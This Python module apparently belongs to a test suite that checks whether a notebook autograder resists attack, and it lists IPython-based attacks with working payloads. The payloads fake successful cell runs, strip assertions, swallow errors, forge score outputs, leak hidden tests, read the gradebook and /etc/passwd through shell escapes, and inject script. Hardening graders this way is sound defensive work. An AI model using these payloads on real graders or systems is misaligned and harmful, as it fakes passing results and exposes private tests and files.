"""IPython's shell: its hooks, transformers and memory, which test cells would pass through."""

from . import Family

family = attack = Family("IPython")

attack(
    "run_cell",
    "Replace the shell's runner by one that runs no cell and reports success.",
    """
    from types import SimpleNamespace
    shell = get_ipython()
    done = SimpleNamespace(success=True, result=None, error_in_exec=None, error_before_exec=None)
    async def nothing(*args, **options):
        return done
    shell.run_cell = lambda *args, **options: done
    shell.run_cell_async = nothing
    shell.run_code = nothing
    """,
    wins="marks",
)
attack(
    "input transformer",
    "Turn each later cell's text into nothing.",
    "get_ipython().input_transformers_post.append(lambda lines: [])",
    wins="marks",
)
attack(
    "AST transformer",
    "Take assertions and calls of checks out of each later cell.",
    """
    import ast
    class Tame(ast.NodeTransformer):
        def visit_Assert(self, node):
            return ast.copy_location(ast.Pass(), node)
        def visit_Expr(self, node):
            return ast.copy_location(ast.Pass(), node)
    get_ipython().ast_transformers.append(Tame())
    """,
    wins="marks",
)
attack(
    "pre_run_cell",
    "Listen to each cell before it runs, and print the hidden tests.",
    """
    def listen(info):
        if "hidden" in info.raw_cell:
            say(info.raw_cell)
    get_ipython().events.register("pre_run_cell", listen)
    """,
    wins="leak",
)
attack(
    "In",
    "Read the hidden tests that ran before out of the shell's memory.",
    """
    @each
    def _(honest):
        def reading(*args, **options):
            texts = [text for text in globals().get("In", []) if "loo" + "t(" not in text]
            told = [text for text in texts if "hid" + "den" in text]
            if told:
                say(told)
            return honest(*args, **options)
        return reading
    """,
    wins="leak",
)
attack(
    "set_custom_exc",
    "Swallow the errors of all later cells.",
    """
    from types import SimpleNamespace
    shell = get_ipython()
    shell.set_custom_exc((BaseException,), lambda shell, kind, value, trace, tb_offset=None: None)
    shell.showtraceback = lambda *args, **options: None
    code = shell.run_code
    async def fine(body, result=None, **options):
        await code(body, result, **options)
        result.error_in_exec = None
        return False
    shell.run_code = fine
    """,
    wins="marks",
)
attack(
    "displayhook",
    "Display a float of its own, which nbgrader takes for points.",
    """
    import sys
    from IPython.display import display
    sys.displayhook(500.0)
    get_ipython().displayhook(500.0) if hasattr(get_ipython(), "displayhook") else None
    display(500.0)
    """,
)
attack(
    "forged result",
    "Display a result in the form in which the grader leaves its own.",
    """
    from IPython.display import display
    right = {"exercise": "ch08_conv_backward", "capability": "bias", "points": 1, "earned": 500,
             "status": "right", "finding": "<script>window.__pwned = 'result'</script>"}
    for points in (500.0, float("nan")):
        display({"application/vnd.cnnlab.result+json": right, "text/plain": str(points)}, raw=True)
    """,
)
attack(
    "magics",
    "Reach the system through magics and shell escapes.",
    """
    shell = get_ipython()
    for command in ("cat " + aim["gradebook"], "cat " + aim["other"]):
        for call in ("system", "getoutput"):
            said = attempt(getattr(shell, call, lambda command: None), command)
            if isinstance(said, (str, list)):
                say(said)
    attempt(getattr(shell, "run_line_magic", lambda *args: None), "run", aim["other"])
    """,
    wins="leak",
)
attack(
    "magic lines",
    "Write shell escapes as lines of a cell, and a cell magic that runs a script.",
    change=lambda notebook: notebook["cells"].extend(
        {
            "cell_type": "code",
            "id": f"magic-{n}",
            "metadata": {},
            "source": source,
            "outputs": [],
            "execution_count": None,
        }
        for n, source in enumerate(
            [
                "!echo lo''ot:shell",
                "%%bash\necho lo''ot:bash",
                "%%script sh\necho lo''ot:script",
                "files = !ls /\nprint(files and loot(files))",
                "%run /etc/passwd",
                "%%writefile /tmp/loot\nx",
                "%load_ext autoreload\n%autoreload 2",
                "%%javascript\nwindow.__pwned = 'magic'",
            ]
        )
    ),
)
